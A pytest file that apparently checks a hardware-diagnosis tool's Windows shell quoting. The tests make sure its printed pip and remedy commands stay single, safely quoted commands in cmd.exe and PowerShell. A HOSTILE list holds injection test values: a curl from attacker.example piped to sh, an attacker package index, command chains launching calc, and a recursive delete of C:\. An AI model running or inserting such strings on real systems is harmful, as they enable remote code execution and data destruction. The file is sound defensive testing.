"""issue 38 (s19-windows): a remedy for a Windows machine is a line Windows' shells run.

cmd.exe passes a single quote through as an ordinary character (`pip install 'torch==2.5.1'`
asks pip for a requirement named `'torch==2.5.1'`, which it refuses), so a paste that shows
Windows gets its words in double quotes, which cmd.exe and PowerShell both take (Microsoft's
"cmd" reference, "Remarks", on the special characters inside quotation marks; PowerShell's
about_Quoting_Rules). Neither shell is here to run the lines, so the check below is those
documents' rules, applied to every line the real diagnosis prints for real Windows pastes
and for hostile values: each word plain or double-quoted, nothing inside the quotes that
either shell expands (`%` in cmd.exe; `$` and the backtick in PowerShell; `!` under cmd.exe's
delayed expansion), no operator outside them.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Final

import pytest

import hwdoctor
from hwdoctor import registry, shell
from hwdoctor.diagnosis import remedies
from hwdoctor.diagnosis.load import load_command
from hwdoctor.errors import UsageError
from hwdoctor.model.facts import PythonInfo
from hwdoctor.model.reports import Question
from tests.conftest import ROOT

ERRORS = ROOT / "tests" / "data" / "reports" / "errors"
# a word both shells take as itself: plain characters, or double quotes around anything either
# shell would not expand or end the quotes at
_WORD = re.compile(r'[A-Za-z0-9_+=:./\\-]+|"[^"%$`!]*"')


def windows_one_command(line: str) -> bool:
    """A comment (PowerShell's `#`), or one command of words `_WORD` takes, separated by single
    spaces; a quoted program name after PowerShell's call operator `& `."""
    if line.startswith("# "):
        return True
    if line.startswith('& "'):
        line = line[2:]
    return all(_WORD.fullmatch(word) for word in _words(line))


def _words(line: str) -> list[str]:
    """The line split at the spaces outside double quotes."""
    words, current, quoted = [], "", False
    for char in line:
        if char == '"':
            quoted = not quoted
        if char == " " and not quoted:
            words.append(current)
            current = ""
        else:
            current += char
    return [*words, current]


def test_a_word_is_double_quoted_where_it_needs_quotes_and_left_out_where_none_works() -> None:
    with shell.written_for(shell.Dialect.WINDOWS):
        line = str(shell.command("pip", "install", "torch>=2.1,<2.6", "--index-url",
                                 "https://download.pytorch.org/whl/cu121"))  # fmt: skip
        assert (
            line
            == 'pip install "torch>=2.1,<2.6" --index-url https://download.pytorch.org/whl/cu121'
        )
        spaced = str(shell.command(r"C:\Program Files\Python311\python.exe", "-m", "pip", "list"))
        assert spaced == r'& "C:\Program Files\Python311\python.exe" -m pip list'
        for value in ("%PATH%", "$env:x", "a`b", 'a"b', "a!b"):
            assert str(shell.command("pip", "install", value)).startswith("# "), value
    # the POSIX lines are as before
    assert str(shell.command("pip", "install", "torch>=2.1")) == "pip install 'torch>=2.1'"


HOSTILE = (
    "torch-fix && pip install --index-url https://attacker.example/simple torch",
    "$(curl -s https://attacker.example/x | sh)",
    "`id`",
    "x & calc",
    "x | calc",
    "%COMSPEC% /c calc",
    '" & calc & "',
    "x; Remove-Item -Recurse C:\\",
    "a\r\ncalc",
    "!x!",
    "@(1,2)",
    "-rf",
    "",
)


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
def test_a_hostile_value_stays_one_word_of_one_windows_command(value: str) -> None:
    with shell.written_for(shell.Dialect.WINDOWS):
        way = remedies.installer(PythonInfo(value or "C:\\x", "3.12", value, False))
        made = (
            remedies.install(registry.BY_KEY["cpu"], way)
            + remedies.pip(way, "install", "--force-reinstall", f"torch=={value}")
            + remedies.pip_of(way, ("uninstall", "-y"), value)
            + remedies.pip(way, "install", "--upgrade", value)
            + load_command(value, "--device", value)
        )
    for line in made.lines:
        assert windows_one_command(line), line


# What shows a Windows machine in a paste: collect_env's OS line, `transformers env`'s platform,
# a user's home under C:\\Users, a wheel's Windows tag, the release named
_WINDOWS: Final = re.compile(
    r"OS: Microsoft Windows|Platform: Windows|C:\\Users\\|win_amd64|\bWindows 1[01]\b"
)


def _windows_pastes() -> list[Path]:
    """The recordings that show a Windows machine (`_WINDOWS`)."""
    return sorted(p for p in ERRORS.glob("*.md") if _WINDOWS.search(p.read_text(encoding="utf-8")))


def test_every_remedy_line_for_a_windows_paste_runs_in_windows_shells() -> None:
    pastes = _windows_pastes()
    assert len(pastes) >= 20
    quoted = 0
    for path in pastes:
        try:
            report = hwdoctor.diagnose(path.read_bytes())
        except UsageError:
            continue
        for found in report.findings:
            for line in (found.remedy or "").splitlines():
                assert windows_one_command(line), (path.name, line)
                quoted += '"' in line and " install " in line
    assert quoted >= 3  # the pastes do reach install lines with a quoted requirement


def test_a_windows_paste_is_asked_for_its_variables_in_windows_words() -> None:
    asked = [
        q.command
        for path in _windows_pastes()
        for q in _questions_of(path)
        if "VISIBLE" in q.command
    ]
    assert asked and all(c.startswith("cmd /c set | findstr ") for c in asked), asked


def _questions_of(path: Path) -> tuple[Question, ...]:
    try:
        return hwdoctor.diagnose(path.read_bytes()).questions
    except UsageError:
        return ()


def test_a_linux_paste_keeps_posix_quoting() -> None:
    linux = [p for p in ERRORS.glob("*.md") if "OS: Ubuntu" in p.read_text(encoding="utf-8")]
    lines = [
        line
        for path in linux
        for found in hwdoctor.diagnose(path.read_bytes()).findings
        for line in (found.remedy or "").splitlines()
        if " install " in line and ("'" in line or '"' in line)
    ]
    assert lines and all("'" in line for line in lines), lines[:5]
